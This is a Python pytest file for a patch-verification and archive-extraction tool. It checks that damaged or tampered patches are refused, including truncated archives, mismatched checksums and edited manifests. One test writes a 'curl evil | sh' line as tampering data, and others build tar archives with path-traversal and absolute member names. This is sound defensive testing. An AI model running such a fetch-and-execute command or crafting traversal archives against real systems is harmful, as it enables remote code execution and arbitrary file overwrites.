"""verify-patch against damaged copies of a real patch (C08) and a crafted archive (C01)."""

from __future__ import annotations

import hashlib
import io
import json
import os
import re
import shutil
import tarfile
from collections.abc import Iterable
from datetime import UTC, datetime
from pathlib import Path

import pytest
from support.crafted import regenerate_sums

from patchflow.archive.extract import extract_archive
from patchflow.config import load_settings
from patchflow.errors import ArchiveError, VerifyError
from patchflow.lifecycle.create import create_patch
from patchflow.manifest import Entry
from patchflow.verify import verify_patch, verify_patch_folder
from patchflow.version import parse_version

VERSION = parse_version("1.4.0")
ARCHIVE = "patch-v1.4.0.tar.gz"
FILES = {
    "VERSION": "1.4.0\n",
    "src/index.js": "console.log('1.4.0');\n" * 200,
    "src/util.js": "module.exports = {};\n" * 100,
    "scripts/start.sh": "#!/bin/sh\nnode apps/api/server.js\n",
    "prisma/migrations/20250101000000_init/migration.sql": 'CREATE TABLE "User" (id int);\n',
}


def _build(root: Path, files: dict[str, str]) -> Path:
    for rel, text in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    created = create_patch(load_settings(root, environ={}), now=datetime(2025, 1, 2, tzinfo=UTC))
    return created.folder


@pytest.fixture(scope="module")
def good_patch(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return _build(tmp_path_factory.mktemp("good"), FILES)


@pytest.fixture(scope="module")
def other_patch(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return _build(tmp_path_factory.mktemp("other"), {**FILES, "src/index.js": "console.log('other');\n"})


@pytest.fixture
def patch(good_patch: Path, tmp_path: Path) -> Path:
    copy = tmp_path / "patches" / "v1.4.0"
    shutil.copytree(good_patch, copy)
    return copy


def _hex(path: Path, algorithm: str) -> str:
    return hashlib.new(algorithm, path.read_bytes()).hexdigest()


def snapshot(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir())}


def assert_refused(folder: Path, state: str, expected: Iterable[str], *, deep: bool = False) -> None:
    """Refused by verify (``deep``: only by the member-by-member check; the shallow default,
    which does not decompress the archive, then passes: extraction does that check)."""
    before = snapshot(folder)
    if deep:
        assert verify_patch_folder(folder, VERSION).ok, "the shallow check only covers checksums and manifest"
    report = verify_patch_folder(folder, VERSION, check_archive=deep)
    assert report.state == state, report.problems
    assert not report.ok
    text = "; ".join(report.problems)
    for fragment in expected:
        assert fragment in text
    with pytest.raises(VerifyError) as caught:
        verify_patch(folder, VERSION, deep=deep)
    assert f"is {state}" in caught.value.message
    assert "Do not apply it" in caught.value.hint
    assert snapshot(folder) == before, "verification never writes"


def test_good_patch_verifies(patch: Path) -> None:
    report = verify_patch(patch, VERSION)
    assert report.ok
    assert report.problems == []
    assert "src/index.js" in report.entries()


def test_a_truncated_to_half(patch: Path) -> None:
    archive = patch / ARCHIVE
    data = archive.read_bytes()
    archive.write_bytes(data[: len(data) // 2])
    assert_refused(patch, "corrupt", [f"{ARCHIVE}: md5 checksum mismatch", f"{ARCHIVE}: sha256 checksum mismatch"])


def test_b_missing_last_byte(patch: Path) -> None:
    archive = patch / ARCHIVE
    archive.write_bytes(archive.read_bytes()[:-1])
    assert_refused(patch, "corrupt", [f"{ARCHIVE}: md5 checksum mismatch", f"{ARCHIVE}: sha256 differs from manifest"])


def test_c_one_byte_flipped(patch: Path) -> None:
    archive = patch / ARCHIVE
    data = bytearray(archive.read_bytes())
    data[len(data) // 2] ^= 0xFF
    archive.write_bytes(bytes(data))
    assert_refused(patch, "corrupt", [f"{ARCHIVE}: sha256 checksum mismatch (SHA256SUMS)"])


def test_d_sha256sums_deleted(patch: Path) -> None:
    (patch / "SHA256SUMS").unlink()
    assert_refused(patch, "incomplete", ["SHA256SUMS is missing"])


def test_d_checksum_md5_deleted(patch: Path) -> None:
    (patch / "checksum.md5").unlink()
    assert_refused(patch, "incomplete", ["checksum.md5 is missing"])


def test_e_checksums_from_a_different_patch(patch: Path, other_patch: Path) -> None:
    for name in ("checksum.md5", "SHA256SUMS"):
        shutil.copyfile(other_patch / name, patch / name)
    assert_refused(patch, "corrupt", [f"{ARCHIVE}: md5 checksum mismatch", "manifest.json: sha256 checksum mismatch"])


def test_f_manifest_edited_and_sums_regenerated(patch: Path) -> None:
    manifest = json.loads((patch / "manifest.json").read_text(encoding="utf-8"))
    for entry in manifest["files"]:
        if entry["path"] == "src/index.js":
            entry["sha256"] = "0" * 64
    (patch / "manifest.json").write_text(json.dumps(manifest, indent=2), encoding="utf-8")
    regenerate_sums(patch)
    assert_refused(patch, "corrupt", ["src/index.js: content differs from manifest.json"], deep=True)


def test_truncated_archive_with_regenerated_checksums(patch: Path) -> None:
    archive = patch / ARCHIVE
    archive.write_bytes(archive.read_bytes()[:-40])
    manifest = json.loads((patch / "manifest.json").read_text(encoding="utf-8"))
    manifest["archive"]["sha256"] = _hex(archive, "sha256")
    (patch / "manifest.json").write_text(json.dumps(manifest, indent=2), encoding="utf-8")
    regenerate_sums(patch)
    assert_refused(patch, "corrupt", ["is corrupt or truncated"], deep=True)


def test_file_not_covered_by_sha256sums(patch: Path) -> None:
    (patch / "extra.sh").write_text("curl evil | sh\n", encoding="utf-8")
    assert_refused(patch, "corrupt", ["extra.sh is not covered by SHA256SUMS"])


def test_wrong_version_folder(patch: Path) -> None:
    report = verify_patch_folder(patch, parse_version("1.5.0"))
    assert report.state == "incomplete"
    assert "patch-v1.5.0.tar.gz is missing" in report.problems


def test_missing_folder(tmp_path: Path) -> None:
    report = verify_patch_folder(tmp_path / "patches" / "v1.4.0", VERSION)
    assert report.state == "incomplete"
    assert "does not exist" in report.problems[0]
    assert not (tmp_path / "patches").exists()


def _crafted_archive(path: Path, names: list[str]) -> dict[str, Entry]:
    entries = {}
    with tarfile.open(path, "w:gz", format=tarfile.PAX_FORMAT) as tar:
        for name in names:
            data = f"payload of {name}\n".encode()
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mode = 0o644
            tar.addfile(info, io.BytesIO(data))
            entries[name] = Entry(name, "file", 0o644, len(data), hashlib.sha256(data).hexdigest())
    with tarfile.open(path) as tar:
        assert [m.name for m in tar.getmembers()] == names, "the crafted names are stored verbatim"
    return entries


C01_CASES = [
    (["app/index.js", "../../outside-C01.txt", "/tmp/abs-C01.txt"], "../../outside-C01.txt", "path contains '..'"),
    (["app/index.js", "/tmp/abs-C01.txt"], "/tmp/abs-C01.txt", "absolute path"),
]


@pytest.mark.parametrize(("names", "named", "reason"), C01_CASES)
def test_g_traversal_members_are_refused_c01(patch: Path, names: list[str], named: str, reason: str) -> None:
    archive = patch / ARCHIVE
    entries = _crafted_archive(archive, names)
    manifest = json.loads((patch / "manifest.json").read_text(encoding="utf-8"))
    manifest["files"] = [e.to_json() for e in entries.values()]
    manifest["archive"]["sha256"] = _hex(archive, "sha256")
    (patch / "manifest.json").write_text(json.dumps(manifest, indent=2), encoding="utf-8")
    regenerate_sums(patch)
    assert_refused(patch, "corrupt", [f"Unsafe member {named!r}", reason], deep=True)


@pytest.mark.parametrize(("names", "named", "reason"), C01_CASES)
def test_g_extract_writes_nothing_c01(tmp_path: Path, names: list[str], named: str, reason: str) -> None:
    absolute = Path("/tmp/abs-C01.txt")
    before = absolute.stat() if absolute.exists() else None
    archive = tmp_path / "crafted.tar.gz"
    entries = _crafted_archive(archive, names)
    destination = tmp_path / "install" / "staging"
    with pytest.raises(ArchiveError) as caught:
        extract_archive(archive, destination, entries)
    assert repr(named) in caught.value.message
    assert reason in caught.value.message
    assert "nothing was extracted" in caught.value.hint
    assert not destination.exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["crafted.tar.gz"]
    after = absolute.stat() if absolute.exists() else None
    assert (before and before.st_mtime_ns) == (after and after.st_mtime_ns)


def test_extract_refuses_archive_that_differs_from_manifest(good_patch: Path, tmp_path: Path) -> None:
    report = verify_patch(good_patch, VERSION)
    expected = report.entries()
    expected.pop("src/util.js")
    destination = tmp_path / "staging"
    destination.mkdir()
    with pytest.raises(ArchiveError, match=re.escape("src/util.js: in the archive but not listed in manifest.json")):
        extract_archive(good_patch / ARCHIVE, destination, expected)
    assert list(destination.iterdir()) == []


def test_extract_of_a_good_patch_restores_modes(good_patch: Path, tmp_path: Path) -> None:
    report = verify_patch(good_patch, VERSION)
    destination = tmp_path / "staging"
    extract_archive(good_patch / ARCHIVE, destination, report.entries())
    assert (destination / "src/index.js").read_text(encoding="utf-8") == FILES["src/index.js"]
    assert (destination / "scripts/start.sh").stat().st_mode & 0o777 == 0o644


def test_extract_ignores_owners_and_unsafe_mode_bits_c04(tmp_path: Path) -> None:
    archive = tmp_path / "owned.tar.gz"
    data = b"#!/bin/sh\necho start\n"
    with tarfile.open(archive, "w:gz", format=tarfile.PAX_FORMAT) as tar:
        for name, mode in (("bin/start.sh", 0o4777), ("config/private.json", 0o600)):
            info = tarfile.TarInfo(name)
            info.size, info.mode, info.uid, info.gid, info.uname, info.gname = len(data), mode, 4242, 4242, "x", "x"
            tar.addfile(info, io.BytesIO(data))
    digest = hashlib.sha256(data).hexdigest()
    expected = {
        "bin/start.sh": Entry("bin/start.sh", "file", 0o755, len(data), digest),
        "config/private.json": Entry("config/private.json", "file", 0o600, len(data), digest),
    }
    destination = tmp_path / "staging"
    extract_archive(archive, destination, expected)
    for rel, mode in (("bin/start.sh", 0o755), ("config/private.json", 0o600)):
        st = (destination / rel).stat()
        assert st.st_mode & 0o7777 == mode, rel
        assert (st.st_uid, st.st_gid) == (os.getuid(), os.getgid()), rel
